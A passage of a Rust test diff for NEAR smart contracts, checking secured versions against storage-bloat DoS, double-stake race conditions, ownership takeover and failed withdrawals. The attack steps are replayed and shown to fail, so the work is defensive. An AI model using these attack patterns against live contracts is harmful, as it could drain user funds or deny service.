+        .unwrap();
+
+    assert_eq!(proposed_owner, None);
+
+    let res = caller.call(secured_contract.id(), "pub_toggle_pause").transact().await?;
+
+    assert!(res.is_failure(), "Attacker could toggle pause");
+
+    /*****============== Two-step ownership handover ==============*****/
+    let res = owner
+        .call(secured_contract.id(), "set_owner")
+        .args_json(json!({"new_owner": caller.id()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Propose Owner Failed: {:?}", res.failures());
+
+    // Proposing does not transfer ownership yet
+    let current_owner = secured_contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&current_owner, owner.id());
+
+    let res = caller.call(secured_contract.id(), "accept_owner").transact().await?;
+
+    assert!(res.is_success(), "Accept Owner Failed: {:?}", res.failures());
+
+    let current_owner = secured_contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&current_owner, caller.id());
+
+    /*****============== Expired ownership proposal ==============*****/
+    let res = caller
+        .call(secured_contract.id(), "set_owner")
+        .args_json(json!({"new_owner": owner.id()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Propose Owner Failed: {:?}", res.failures());
+
+    worker.fast_forward(OWNER_PROPOSAL_EXPIRY + 1).await?;
+
+    let res = owner.call(secured_contract.id(), "accept_owner").transact().await?;
+
+    assert!(res.is_failure(), "Expired proposal was accepted");
+    assert!(format!("{:?}", res.failures()).contains("Ownership proposal expired"));
+
+    let current_owner = secured_contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&current_owner, caller.id());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn pausable_granular_pause() -> anyhow::Result<()> {
+    let (dos_contract, owner, caller) = prepare_dos_secured().await?;
+
+    let res = caller
+        .call(dos_contract.id(), "storage_deposit")
+        .args_json(json!({}))
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Storage Deposit Failed: {:?}", res.failures());
+
+    let guardian = owner
+        .create_subaccount("guardian")
+        .initial_balance(ONE_NEAR * 10)
+        .transact().await?
+        .into_result()?;
+
+    let res = owner
+        .call(dos_contract.id(), "pub_set_pause_guardian")
+        .args_json(json!({"guardian": guardian.id()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Set Guardian Failed: {:?}", res.failures());
+
+    /*****============== Guardian pauses a single method ==============*****/
+    let res = guardian
+        .call(dos_contract.id(), "pub_pause_method")
+        .args_json(json!({"method": "register_user"}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Pause Method Failed: {:?}", res.failures());
+    println!("Pause Method Logs: {:?}", res.logs());
+
+    let paused_methods = dos_contract
+        .view("get_paused_methods").await?
+        .json::<Vec<String>>()
+        .unwrap();
+
+    assert_eq!(paused_methods, vec!["register_user".to_string()]);
+
+    let res = caller
+        .call(dos_contract.id(), "register_user")
+        .args_json(json!({ "user": "alice.near" }))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Paused method was called");
+    assert!(format!("{:?}", res.failures()).contains("Method register_user is paused"));
+
+    // Other methods keep working
+    let data = dos_contract.view("get_data").await?.json::<String>().unwrap();
+
+    assert_eq!(data, "Hello World");
+
+    /*****============== Guardian can not unpause ==============*****/
+    let res = guardian
+        .call(dos_contract.id(), "pub_unpause_method")
+        .args_json(json!({"method": "register_user"}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Guardian could unpause");
+
+    let res = caller
+        .call(dos_contract.id(), "pub_pause")
+        .transact().await?;
+
+    assert!(res.is_failure(), "Stranger could pause");
+
+    /*****============== Emergency-only method ==============*****/
+    let res = owner
+        .call(dos_contract.id(), "remove_user")
+        .args_json(json!({ "user": "alice.near" }))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Emergency method called while not paused");
+    assert!(format!("{:?}", res.failures()).contains("Function is not paused"));
+
+    let res = guardian.call(dos_contract.id(), "pub_pause").transact().await?;
+
+    assert!(res.is_success(), "Pause Failed: {:?}", res.failures());
+
+    let pause_status = dos_contract.view("get_pause_status").await?.json::<bool>().unwrap();
+
+    assert!(pause_status, "Could not pause contract");
+
+    let method_pause_status = dos_contract
+        .view("get_method_pause_status")
+        .args_json(json!({"method": "get_data"}))
+        .await?
+        .json::<bool>()
+        .unwrap();
+
+    assert!(method_pause_status, "Global pause does not cover get_data");
+
+    let res = owner
+        .call(dos_contract.id(), "remove_user")
+        .args_json(json!({ "user": "alice.near" }))
+        .transact().await?;
+
+    assert!(res.is_success(), "Remove User Failed: {:?}", res.failures());
+
+    let res = guardian.call(dos_contract.id(), "pub_unpause").transact().await?;
+
+    assert!(res.is_failure(), "Guardian could unpause");
+
+    /*****============== Owner unpauses ==============*****/
+    let res = owner.call(dos_contract.id(), "pub_unpause").transact().await?;
+
+    assert!(res.is_success(), "Unpause Failed: {:?}", res.failures());
+
+    let res = owner
+        .call(dos_contract.id(), "pub_unpause_method")
+        .args_json(json!({"method": "register_user"}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Unpause Method Failed: {:?}", res.failures());
+
+    let paused_methods = dos_contract
+        .view("get_paused_methods").await?
+        .json::<Vec<String>>()
+        .unwrap();
+
+    assert!(paused_methods.is_empty());
+
+    let res = caller
+        .call(dos_contract.id(), "register_user")
+        .args_json(json!({ "user": "alice.near" }))
+        .transact().await?;
+
+    assert!(res.is_success(), "Register User Failed: {:?}", res.failures());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_dos_register_user_secured() -> anyhow::Result<()> {
+    let (dos_contract, _, caller) = prepare_dos_secured().await?;
+
+    let gen = "a".repeat(60);
+
+    /*****============== Registration without storage deposit ==============*****/
+    let res = caller
+        .call(dos_contract.id(), "register_user")
+        .args_json(json!({ "user": format!("{}{}", gen, 0) }))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Registered without storage deposit");
+    assert!(format!("{:?}", res.failures()).contains("Account is not registered"));
+
+    let res = caller
+        .call(dos_contract.id(), "storage_deposit")
+        .args_json(json!({}))
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Storage Deposit Failed: {:?}", res.failures());
+
+    /*****============== Cost per storage write is paid by the caller ==============*****/
+    for i in 1000..1010 {
+        let storage_balance_before = dos_contract
+            .view("storage_balance_of")
+            .args_json(json!({"account_id": caller.id()}))
+            .await?
+            .json::<StorageBalance>()
+            .unwrap();
+
+        let check_storage_contract_before = dos_contract
+            .view_account().await
+            .unwrap().storage_usage;
+
+        let acc = format!("{}{}", gen, i);
+
+        let res = caller
+            .call(dos_contract.id(), "register_user")
+            .args_json(json!({ "user": acc }))
+            .transact().await?;
+
+        assert!(res.is_success(), "Register User Failed: {:?}", res.failures());
+
+        let storage_balance_after = dos_contract
+            .view("storage_balance_of")
+            .args_json(json!({"account_id": caller.id()}))
+            .await?
+            .json::<StorageBalance>()
+            .unwrap();
+
+        let storage_contract_after = dos_contract.view_account().await.unwrap().storage_usage;
+        let storage_per_call = storage_contract_after - check_storage_contract_before;
+
+        // Calculates cost per adding new storage in NEAR. 100kb is ~1N
+        let cost_per_storage_add_in_near: f64 = (storage_per_call as f64) / 100000.0;
+
+        let charged_per_iteration =
+            storage_balance_before.available.0 - storage_balance_after.available.0;
+        let charged_per_iteration_near = (charged_per_iteration as f64) / (ONE_NEAR as f64); // Caller's storage balance spent per iteration
+
+        assert_eq!(storage_balance_before.total, storage_balance_after.total);
+
+        assert!(
+            cost_per_storage_add_in_near <= charged_per_iteration_near,
+            "Contract is vulnerable to DOS attack"
+        );
+
+        println!(
+            "Cost per storage write {cost_per_storage_add_in_near} || Charged to caller: {charged_per_iteration_near} || Storage added: {storage_per_call}\n"
+        );
+    }
+
+    /*****============== Storage balance runs out ==============*****/
+    let attacker = caller
+        .create_subaccount("attacker")
+        .initial_balance(ONE_NEAR * 10)
+        .transact().await?
+        .into_result()?;
+
+    let res = attacker
+        .call(dos_contract.id(), "storage_deposit")
+        .args_json(json!({"registration_only": true}))
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Storage Deposit Failed: {:?}", res.failures());
+
+    let storage_balance = res.json::<StorageBalance>().unwrap();
+
+    // Everything above the minimum balance is refunded
+    assert_eq!(storage_balance.available.0, 0);
+
+    let res = attacker
+        .call(dos_contract.id(), "register_user")
+        .args_json(json!({ "user": format!("{}{}", gen, 1) }))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Registered without available storage balance");
+    assert!(format!("{:?}", res.failures()).contains("Not enough storage deposit"));
+
+    /*****============== Withdraw and unregister ==============*****/
+    let res = caller
+        .call(dos_contract.id(), "storage_unregister")
+        .args_json(json!({}))
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_failure(), "Unregistered with used storage");
+
+    let res = caller
+        .call(dos_contract.id(), "storage_withdraw")
+        .args_json(json!({}))
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_success(), "Storage Withdraw Failed: {:?}", res.failures());
+
+    let storage_balance = res.json::<StorageBalance>().unwrap();
+
+    assert_eq!(storage_balance.available.0, 0);
+    assert!(storage_balance.total.0 > 0, "Used storage was withdrawn");
+
+    let res = attacker
+        .call(dos_contract.id(), "storage_unregister")
+        .args_json(json!({}))
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_success(), "Storage Unregister Failed: {:?}", res.failures());
+    assert!(res.json::<bool>().unwrap());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn dos_remove_user_releases_storage() -> anyhow::Result<()> {
+    let (dos_contract, owner, caller) = prepare_dos_secured().await?;
+
+    let res = caller
+        .call(dos_contract.id(), "storage_deposit")
+        .args_json(json!({}))
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Storage Deposit Failed: {:?}", res.failures());
+
+    let storage_balance_before = res.json::<StorageBalance>().unwrap();
+
+    let res = caller
+        .call(dos_contract.id(), "register_user")
+        .args_json(json!({ "user": "alice.near" }))
+        .transact().await?;
+
+    assert!(res.is_success(), "Register User Failed: {:?}", res.failures());
+
+    /*****============== Emergency removal credits the payer ==============*****/
+    let res = owner.call(dos_contract.id(), "pub_toggle_pause").transact().await?;
+
+    assert!(res.is_success(), "Pause Failed: {:?}", res.failures());
+
+    let res = owner
+        .call(dos_contract.id(), "remove_user")
+        .args_json(json!({ "user": "alice.near" }))
+        .transact().await?;
+
+    assert!(res.is_success(), "Remove User Failed: {:?}", res.failures());
+    assert!(res.json::<bool>().unwrap(), "User was not removed");
+    println!("Remove User Logs: {:?}", res.logs());
+
+    let storage_balance_after = dos_contract
+        .view("storage_balance_of")
+        .args_json(json!({"account_id": caller.id()}))
+        .await?
+        .json::<StorageBalance>()
+        .unwrap();
+
+    assert_eq!(storage_balance_after.total, storage_balance_before.total);
+    assert_eq!(storage_balance_after.available, storage_balance_before.available);
+
+    /*****============== Payer leaves without force ==============*****/
+    let res = caller
+        .call(dos_contract.id(), "storage_unregister")
+        .args_json(json!({}))
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_success(), "Storage Unregister Failed: {:?}", res.failures());
+    assert!(res.json::<bool>().unwrap());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn dos_register_batch_resumable() -> anyhow::Result<()> {
+    let (dos_contract, _, caller) = prepare_dos_secured().await?;
+
+    let gen = "a".repeat(60);
+
+    let accounts = (1..=101).map(|i| format!("{}{}", gen, i)).collect::<Vec<String>>();
+
+    let res = caller
+        .call(dos_contract.id(), "storage_deposit")
+        .args_json(json!({}))
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Storage Deposit Failed: {:?}", res.failures());
+
+    /*****============== Oversized batch is rejected ==============*****/
+    let res = caller
+        .call(dos_contract.id(), "register_batch")
+        .args_json(json!({ "users": accounts }))
+        .max_gas()
+        .transact().await?;
+
+    assert!(res.is_failure(), "Oversized batch was accepted");
+    assert!(format!("{:?}", res.failures()).contains("Batch size exceeds"));
+
+    /*****============== Batches resume from the returned cursor ==============*****/
+    let mut remaining = accounts.as_slice();
+    let mut calls = 0;
+
+    while !remaining.is_empty() {
+        let batch = &remaining[..remaining.len().min(MAX_BATCH_SIZE)];
+
+        let res = caller
+            .call(dos_contract.id(), "register_batch")
+            .args_json(json!({ "users": batch }))
+            .gas(30 * TGAS)
+            .transact().await?;
+
+        assert!(res.is_success(), "Register Batch Failed: {:?}", res.failures());
+
+        // One aggregated event per call instead of a log line per user
+        let events = res
+            .logs()
+            .iter()
+            .filter(|log| log.starts_with("EVENT_JSON:"))
+            .count();
+
+        assert_eq!(events, 1);
+        assert!(res.logs().len() <= 2, "Too many logs: {:?}", res.logs());
+
+        let processed = match res.json::<Option<u32>>().unwrap() {
+            Some(cursor) => cursor as usize,
+            None => batch.len(),
+        };
+
+        assert!(processed > 0, "Batch made no progress");
+
+        remaining = &remaining[processed..];
+        calls += 1;
+
+        println!("Call {calls}: processed {processed} users, {} remaining", remaining.len());
+    }
+
+    assert!(calls >= 3, "Expected several calls, got {calls}");
+
+    let users_count = dos_contract.view("get_users_count").await?.json::<u64>().unwrap();
+
+    assert_eq!(users_count, 101);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_logical_bug_secured() -> anyhow::Result<()> {
+    let (token_contract, caller, receiver) = prepare_logical_secured().await?;
+
+    for account in [&caller, &receiver] {
+        let res = account
+            .call(token_contract.id(), "storage_deposit")
+            .args_json(json!({"registration_only": true}))
+            .deposit(ONE_NEAR)
+            .transact().await?;
+
+        assert!(res.is_success(), "Storage Deposit Failed: {:?}", res.failures());
+    }
+
+    let res = caller
+        .call(token_contract.id(), "deposit_near")
+        .deposit(ONE_NEAR * 40)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    let res = receiver
+        .call(token_contract.id(), "deposit_near")
+        .deposit(ONE_NEAR * 20)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    let total_supply = token_contract.view("ft_total_supply").await?.json::<U128>().unwrap();
+
+    assert_eq!(total_supply.0, ONE_NEAR * 60);
+
+    let metadata = token_contract
+        .view("ft_metadata").await?
+        .json::<serde_json::Value>()
+        .unwrap();
+
+    assert_eq!(metadata["spec"], "ft-1.0.0");
+    assert_eq!(metadata["symbol"], "wNEAR");
+    assert_eq!(metadata["decimals"], 24);
+
+    /* ============= NOT MALICIOUS TRANSFER ============= */
+
+    let res = caller
+        .call(token_contract.id(), "ft_transfer")
+        .args_json(json!({"receiver_id": receiver.id(), "amount": U128(ONE_NEAR * 20)}))
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_success(), "Transfer Failed: {:?}", res.failures());
+
+    let near_balance = token_contract
+        .view("ft_balance_of")
+        .args_json(json!({"account_id": receiver.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(near_balance.0, ONE_NEAR * 40);
+
+    /* ============= SELF TRANSFER ============= */
+
+    let res = caller
+        .call(token_contract.id(), "ft_transfer")
+        .args_json(json!({"receiver_id": caller.id(), "amount": U128(ONE_NEAR * 10)}))
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_failure(), "Self transfer succeeded");
+    assert!(format!("{:?}", res.failures()).contains("Sender and receiver should be different"));
+
+    let near_balance = token_contract
+        .view("ft_balance_of")
+        .args_json(json!({"account_id": caller.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(near_balance.0, ONE_NEAR * 20);
+
+    let total_supply = token_contract.view("ft_total_supply").await?.json::<U128>().unwrap();
+
+    assert_eq!(total_supply.0, ONE_NEAR * 60);
+
+    /* ============= TRANSFER CALL REFUND ============= */
+
+    // Receiver has no contract, so `ft_on_transfer` fails and `ft_resolve_transfer` refunds
+    let res = caller
+        .call(token_contract.id(), "ft_transfer_call")
+        .args_json(
+            json!({"receiver_id": receiver.id(), "amount": U128(ONE_NEAR * 5), "msg": ""})
+        )
+        .deposit(1)
+        .max_gas()
+        .transact().await?;
+
+    assert!(res.is_success(), "Transfer Call Failed: {:?}", res.failures());
+
+    let used_amount = res.json::<U128>().unwrap();
+
+    assert_eq!(used_amount.0, 0);
+
+    let near_balance = token_contract
+        .view("ft_balance_of")
+        .args_json(json!({"account_id": caller.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(near_balance.0, ONE_NEAR * 20);
+
+    let near_balance = token_contract
+        .view("ft_balance_of")
+        .args_json(json!({"account_id": receiver.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(near_balance.0, ONE_NEAR * 40);
+
+    /* ============= WITHDRAW ============= */
+
+    let res = caller
+        .call(token_contract.id(), "withdraw_near")
+        .args_json(json!({"amount": U128(ONE_NEAR * 10)}))
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    let total_supply = token_contract.view("ft_total_supply").await?.json::<U128>().unwrap();
+
+    assert_eq!(total_supply.0, ONE_NEAR * 50);
+
+    Ok(())
+}
+
+// Deposits, then withdraws to `account` while it is being deleted. The transfer fails,
+// so the withdrawn amount has to be credited back to the ledger.
+async fn withdraw_to_deleted_account(
+    contract: &Contract,
+    account: &Account,
+    beneficiary: &Account
+) -> anyhow::Result<()> {
+    let res = account
+        .call(contract.id(), "deposit_near")
+        .deposit(ONE_NEAR * 10)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    // Transfer receipt reaches `account` at least two blocks after the withdraw transaction,
+    // the deletion sent right after it is executed before that.
+    let withdraw = account
+        .call(contract.id(), "withdraw_near")
+        .args_json(json!({"amount": U128(ONE_NEAR * 10)}))
+        .max_gas()
+        .transact_async().await?;
+
+    let res = account.clone().delete_account(beneficiary.id()).await?;
+
+    assert!(res.is_success(), "Delete Account Failed: {:?}", res.failures());
+
+    let res = withdraw.wait().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+    assert!(!res.json::<bool>().unwrap(), "Transfer to deleted account succeeded");
+    println!("Withdraw Logs: {:?}", res.logs());
+
+    let near_balance = contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc": account.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(near_balance.0, ONE_NEAR * 10);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn withdraw_near_restores_balance_on_failure() -> anyhow::Result<()> {
+    /*****============== Logical contract ==============*****/
+    let (logical_contract, caller, receiver) = prepare_logical().await?;
+
+    withdraw_to_deleted_account(&logical_contract, &caller, &receiver).await?;
+
+    /*****============== Deposit contract ==============*****/
+    let (_, deposit_contract, staking_contract, _) = prepare_race_condition().await?;
+
+    let user = deposit_contract
+        .as_account()
+        .create_subaccount("user")
+        .initial_balance(ONE_NEAR * 15)
+        .transact().await?
+        .into_result()?;
+
+    withdraw_to_deleted_account(&deposit_contract, &user, staking_contract.as_account()).await?;
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_race_condition_secured() -> anyhow::Result<()> {
+    let (deposit_contract, staking_contract, exploit_contract) =
+        prepare_race_condition_secured().await?;
+
+    let res = exploit_contract
+        .as_account()
+        .call(deposit_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    /*****============== Same batch as in exploit_race_condition ==============*****/
+    let batch = exploit_contract
+        .as_account()
+        .batch(deposit_contract.id())
+        .call(
+            Function::new("stake")
+                .args_json(
+                    json!({"validator":"test.near".to_string(), "amount":U128::from(DEPOSIT_AMOUNT)})
+                )
+                .gas(DEPOSIT_STAKE_GAS)
+        )
+        .call(
+            Function::new("stake")
+                .args_json(
+                    json!({"validator":"test.near".to_string(), "amount":U128::from(DEPOSIT_AMOUNT)})
+                )
+                .gas(DEPOSIT_STAKE_GAS)
+        )
+        .transact().await?;
+
+    // The second stake sees the debited balance. Actions of a batch are atomic,
+    // so the whole batch is reverted and nothing reaches the staking contract.
+    assert!(batch.is_failure(), "Double stake succeeded");
+    assert!(format!("{:?}", batch.failures()).contains("Not enough money"));
+
+    let staked_amount = staking_contract
+        .view("view_stake")
+        .args_json(json!({"account":exploit_contract.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    // Not even the first stake went through
+    assert_eq!(staked_amount.0, 0);
+
+    let near_deposit = deposit_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc": exploit_contract.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(near_deposit.0, DEPOSIT_AMOUNT);
+
+    let locked_deposit = deposit_contract
+        .view("view_locked_deposit")
+        .args_json(json!({"acc": exploit_contract.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(locked_deposit.0, 0);
+
+    /*****============== Both stakes as independent receipts ==============*****/
+    let res = exploit_contract
+        .call("exploit")
+        .args_json(json!({"addr":deposit_contract.id(),"amount": U128(DEPOSIT_AMOUNT)}))
+        .max_gas()
+        .transact().await?;
+
+    assert!(format!("{:?}", res.failures()).contains("Not enough money"));
+    println!("Exploit Logs: {:?}", res.logs());
+
+    let staked_amount = staking_contract
+        .call("view_stake")
+        .args_json(json!({"account":exploit_contract.id(), "validator":"test.near"}))
+        .transact().await?
+        .json::<U128>()
+        .unwrap();
+
+    // Staked exactly once
+    assert_eq!(staked_amount.0, DEPOSIT_AMOUNT);
+
+    let near_deposit = deposit_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc": exploit_contract.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(near_deposit.0, 0);
+
+    let locked_deposit = deposit_contract
+        .view("view_locked_deposit")
+        .args_json(json!({"acc": exploit_contract.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(locked_deposit.0, 0);
+
+    /*****============== Unstaking the double stake is impossible ==============*****/
+    let res = exploit_contract
+        .as_account()
+        .call(staking_contract.id(), "unstake")
+        .args_json(
+            json!(
+            {"validator":"test.near".to_string(), "amount":U128::from(DEPOSIT_AMOUNT * 2)})
+        )
+        .transact().await?;
+
+    assert!(res.is_failure(), "Unstaked more than staked");
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn staking_unbonding() -> anyhow::Result<()> {
+    let (worker, deposit_contract, staking_contract, exploit_contract) =
+        prepare_race_condition().await?;
+
+    let user = exploit_contract.as_account();
+
+    let res = user
+        .call(deposit_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    let res = user
+        .call(deposit_contract.id(), "stake")
+        .args_json(json!({"validator":"test.near", "amount":U128::from(DEPOSIT_AMOUNT)}))
+        .gas(DEPOSIT_STAKE_GAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Stake Failed: {:?}", res.failures());
+
+    /*****============== Unstake moves funds into unbonding ==============*****/
+    let res = user
+        .call(staking_contract.id(), "unstake")
+        .args_json(json!({"validator":"test.near", "amount":U128::from(ONE_NEAR * 5)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Unstake Failed: {:?}", res.failures());
+    println!("Unstake Logs: {:?}", res.logs());
+
+    let staked_amount = staking_contract
+        .call("view_stake")
+        .args_json(json!({"account":user.id(), "validator":"test.near"}))
+        .transact().await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(staked_amount.0, DEPOSIT_AMOUNT - ONE_NEAR * 5);
+
+    let unstaked_amount = staking_contract
+        .view("view_unstaked")
+        .args_json(json!({"account":user.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(unstaked_amount.0, ONE_NEAR * 5);
+
+    let is_available = staking_contract
+        .view("is_unstaked_available")
+        .args_json(json!({"account":user.id(), "validator":"test.near"}))
+        .await?
+        .json::<bool>()
+        .unwrap();
+
+    assert!(!is_available, "Unstaked balance available right away");
+
+    /*****============== Withdraw before unbonding ends ==============*****/
+    let res = user
+        .call(staking_contract.id(), "withdraw_unstaked")
+        .args_json(json!({"validator":"test.near"}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Withdrew during unbonding");
+    assert!(format!("{:?}", res.failures()).contains("Unstaked balance is not yet available"));
+
+    /*****============== Withdraw after unbonding ends ==============*****/
+    let available_epoch = staking_contract
+        .view("view_unstaked_available_epoch")
+        .args_json(json!({"account":user.id(), "validator":"test.near"}))
+        .await?
+        .json::<Option<u64>>()
+        .unwrap()
+        .unwrap();
+
+    fast_forward_to_epoch(&worker, &staking_contract, available_epoch).await?;
+
+    let is_available = staking_contract
+        .view("is_unstaked_available")
+        .args_json(json!({"account":user.id(), "validator":"test.near"}))
+        .await?
+        .json::<bool>()
+        .unwrap();
+
+    assert!(is_available, "Unstaked balance not available after unbonding");
+
+    let balance_before = user.view_account().await?.balance;
+
+    let res = user
+        .call(staking_contract.id(), "withdraw_unstaked")
+        .args_json(json!({"validator":"test.near"}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    let balance_after = user.view_account().await?.balance;
+
+    // Withdrawn amount minus gas
+    assert!(balance_after > balance_before + ONE_NEAR * 4, "Unstaked funds not received");
+
+    let unstaked_amount = staking_contract
+        .view("view_unstaked")
+        .args_json(json!({"account":user.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(unstaked_amount.0, 0);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn staking_rewards_distribution() -> anyhow::Result<()> {
+    let (worker, deposit_contract, staking_contract, _) = prepare_race_condition().await?;
+
+    let distributor = worker.dev_create_account().await?;
+
+    // Stakes are not multiples of each other, so every share is rounded
+    let stakes: Vec<u128> = vec![
+        ONE_NEAR * 3 + 1,
+        ONE_NEAR * 7 + 13,
+        ONE_NEAR * 11,
+        ONE_NEAR * 13 + 999,
+        ONE_NEAR * 17 + 12_345,
+    ];
+
+    let mut stakers: Vec<Account> = vec![];
+
+    for stake in stakes.iter() {
+        let staker = worker.dev_create_account().await?;
+
+        let res = staker
+            .call(deposit_contract.id(), "deposit_near")
+            .deposit(*stake)
+            .transact().await?;
+
+        assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+        let res = staker
+            .call(deposit_contract.id(), "stake")
+            .args_json(json!({"validator":"test.near", "amount":U128::from(*stake)}))
+            .gas(DEPOSIT_STAKE_GAS)
+            .transact().await?;
+
+        assert!(res.is_success(), "Stake Failed: {:?}", res.failures());
+
+        stakers.push(staker);
+    }
+
+    let total_staked = staking_contract
+        .view("view_total_staked")
+        .args_json(json!({"validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(total_staked.0, stakes.iter().sum::<u128>());
+
+    /*****============== Distributing rewards ==============*****/
+    let rewards: Vec<u128> = vec![ONE_NEAR + 7, ONE_NEAR / 3, 12_345_678_901_234_567_891];
+
+    for reward in rewards.iter() {
+        let res = distributor
+            .call(staking_contract.id(), "distribute_rewards")
+            .args_json(json!({"validator":"test.near"}))
+            .deposit(*reward)
+            .transact().await?;
+
+        assert!(res.is_success(), "Distribution Failed: {:?}", res.failures());
+        println!("Distribution Logs: {:?}", res.logs());
+    }
+
+    let distributed: u128 = rewards.iter().sum();
+
+    let mut owed: Vec<u128> = vec![];
+
+    for (staker, stake) in stakers.iter().zip(stakes.iter()) {
+        let staker_rewards = staking_contract
+            .view("view_rewards")
+            .args_json(json!({"account":staker.id(), "validator":"test.near"}))
+            .await?
+            .json::<U128>()
+            .unwrap();
+
+        // Share of every staker is proportional to its stake. Each term is rounded down
+        // separately here, while the contract rounds once.
+        let expected = rewards
+            .iter()
+            .map(|reward| {
+                (U256::from(*reward) * U256::from(*stake) / U256::from(total_staked.0)).as_u128()
+            })
+            .sum::<u128>();
+
+        assert!(
+            staker_rewards.0 + 1 >= expected && staker_rewards.0 <= expected + rewards.len() as u128,
+            "Unexpected rewards {} for stake {}",
+            staker_rewards.0,
+            stake
+        );
+
+        owed.push(staker_rewards.0);
+    }
+
+    let total_owed: u128 = owed.iter().sum();
+
+    // No value is created, and at most 1 yocto per staker is lost to rounding
+    assert!(total_owed <= distributed, "Rewards exceed distributed amount");
+    assert!(distributed - total_owed <= stakes.len() as u128, "Rewards lost to rounding");
+
+    /*****============== Late staker does not earn past rewards ==============*****/
+    let late_staker = worker.dev_create_account().await?;
+
+    let res = late_staker
+        .call(deposit_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    let res = late_staker
+        .call(deposit_contract.id(), "stake")
+        .args_json(json!({"validator":"test.near", "amount":U128::from(DEPOSIT_AMOUNT)}))
+        .gas(DEPOSIT_STAKE_GAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Stake Failed: {:?}", res.failures());
+
+    let late_rewards = staking_contract
+        .view("view_rewards")
+        .args_json(json!({"account":late_staker.id(), "validator":"test.near"}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(late_rewards.0, 0);
+
+    /*****============== Claiming rewards ==============*****/
+    for (staker, staker_owed) in stakers.iter().zip(owed.iter()) {
+        let balance_before = staker.view_account().await?.balance;
+
+        let res = staker
+            .call(staking_contract.id(), "claim_rewards")
+            .args_json(json!({"validator":"test.near"}))
+            .transact().await?;
+
+        assert!(res.is_success(), "Claim Failed: {:?}", res.failures());
+        assert!(res.logs().contains(&format!("Claimed rewards: {}", staker_owed).as_str()));
+
+        let balance_after = staker.view_account().await?.balance;
+
+        // Claimed rewards minus gas
+        assert!(balance_after + ONE_NEAR / 100 > balance_before + staker_owed);
+
+        let staker_rewards = staking_contract
